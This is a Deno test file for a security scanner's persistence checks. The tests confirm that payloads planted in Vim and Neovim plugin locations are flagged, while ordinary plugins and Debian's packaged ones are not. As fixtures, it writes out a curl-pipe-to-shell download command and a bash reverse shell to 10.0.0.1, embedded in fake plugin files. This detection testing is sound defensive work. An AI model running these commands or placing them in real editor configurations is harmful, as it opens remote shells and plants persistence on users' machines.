/**
 * Vim and Neovim plugins run at every start of the editor, as whoever runs it: a payload in ~/.vim/plugin, a
 * start package, /etc/vim/plugin or Neovim's init.lua fires; a plugin in the editor's own runtime that no
 * package installed is unpackaged; ordinary plugin code and Debian's own runtime plugins stay quiet.
 */
import assert from "node:assert/strict";
import { persistence } from "../../src/scanners/persistence/index.ts";
import { makeTree, runOne } from "../helpers.ts";
import { dpkgOwns, fired, withAccounts } from "./persistence_fixtures.ts";

const FETCH = "curl -s http://10.0.0.1/x | sh &";
const REVERSE = "bash -i >& /dev/tcp/10.0.0.1/443 0>&1";

Deno.test("persistence: payloads in vim and Neovim plugins fire; an unpackaged runtime plugin is unpackaged", async () => {
  using root = makeTree(withAccounts({
    "root/.vim/plugin/netrwSettings.vim": `" settings\nlet g:x = 1\ncall system("${FETCH}")\n`,
    "home/alice/.vim/pack/tools/start/sync/plugin/deep/sync.vim": `silent !${REVERSE}\n`,
    "etc/vim/plugin/site.vim": "call system('/dev/shm/.v')\n",
    "home/alice/.config/nvim/init.lua": `-- init\nos.execute("${FETCH}")\n`,
    "root/.vim/ftdetect/conf.vim": `au BufRead *.conf call system('${FETCH}')\n`,
    "usr/share/vim/vim90/plugin/netrwPlugin.vim": '" packaged\nlet g:loaded_netrwPlugin = "v173"\n',
    "usr/share/vim/vim90/plugin/gzip2.vim": '" not from any package\nlet g:x = 1\n',
    ...dpkgOwns("vim-runtime", ["/usr/share/vim/vim90/plugin/netrwPlugin.vim"]),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell /home/alice/.vim/pack/tools/start/sync/plugin/deep/sync.vim:1",
    "high persistence.command.download_exec /home/alice/.config/nvim/init.lua:2",
    "high persistence.command.download_exec /root/.vim/ftdetect/conf.vim:1",
    "high persistence.command.download_exec /root/.vim/plugin/netrwSettings.vim:3",
    "high persistence.command.untrusted_path /etc/vim/plugin/site.vim:1",
    "medium persistence.hook.unpackaged /usr/share/vim/vim90/plugin/gzip2.vim",
  ]);
  const alice = r.findings.find((f) => String(f.metadata.path).endsWith("sync.vim"))!;
  assert.equal(alice.metadata.run_as, "alice");
});

Deno.test("persistence: ordinary plugin code (git, ctags, a commented payload) stays quiet", async () => {
  using root = makeTree(withAccounts({
    "root/.vim/plugin/git.vim": [
      '" call system("curl http://x | sh")',
      "function! s:Blame() abort",
      "  let out = system('git blame -- ' . shellescape(expand('%')))",
      "  return out",
      "endfunction",
      "command! Tags silent !ctags -R .",
    ].join("\n") + "\n",
    "home/alice/.config/nvim/init.lua": 'vim.opt.number = true\nvim.fn.system({"git", "status"})\n',
    "usr/share/vim/vim90/plugin/gzip.vim": '" packaged\n',
    ...dpkgOwns("vim-runtime", ["/usr/share/vim/vim90/plugin/gzip.vim"]),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), []);
  assert.deepEqual(r.warnings, []);
});

/** This host's vim runtime plugin directory (Debian's vim-runtime), when it has one. */
function hostVimPlugins(): string | undefined {
  for (const v of ["vim90", "vim91"]) {
    const dir = `/usr/share/vim/${v}/plugin`;
    try {
      if (Deno.statSync(dir).isDirectory) return dir;
    } catch { /* absent */ }
  }
  console.log(
    "[ignored] persistence: Debian's own vim runtime plugins as user plugins -- no /usr/share/vim/vim9x/plugin on this host (apt-get install vim-runtime)",
  );
  return undefined;
}
const VIM_PLUGINS = hostVimPlugins();

Deno.test({
  name:
    "persistence: Debian's own vim runtime plugins, copied into ~/.vim/plugin and /etc/vim/plugin, stay quiet",
  ignore: VIM_PLUGINS === undefined,
  async fn() {
    const files: Record<string, string> = {};
    for (const e of Deno.readDirSync(VIM_PLUGINS!)) {
      if (!e.isFile || !e.name.endsWith(".vim")) continue;
      const text = Deno.readTextFileSync(`${VIM_PLUGINS}/${e.name}`);
      files[`root/.vim/plugin/${e.name}`] = text;
      files[`etc/vim/plugin/${e.name}`] = text;
    }
    assert.ok(Object.keys(files).length >= 10);
    using root = makeTree(withAccounts(files));
    const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
    assert.equal(r.status, "ok", r.reason);
    assert.deepEqual(fired(r.findings), []);
  },
});

Deno.test("persistence: a home with thousands of plugin directories is cut with a warning, not walked forever", async () => {
  const tree: Record<string, string> = {};
  for (let i = 0; i < 2100; i++) tree[`root/.vim/plugin/d${i}/x.vim`] = "let g:x = 1\n";
  tree["etc/vim/plugin/z.vim"] = `call system("${FETCH}")\n`;
  using root = makeTree(withAccounts(tree));
  const started = performance.now();
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  const ms = performance.now() - started;
  assert.ok(ms < 20_000, `${ms.toFixed(0)} ms`);
  assert.deepEqual(fired(r.findings), ["high persistence.command.download_exec /etc/vim/plugin/z.vim:1"]);
  assert.ok(r.warnings.some((w) => w.code === "truncated" && /editor plugin/.test(String(w.detail))));
});
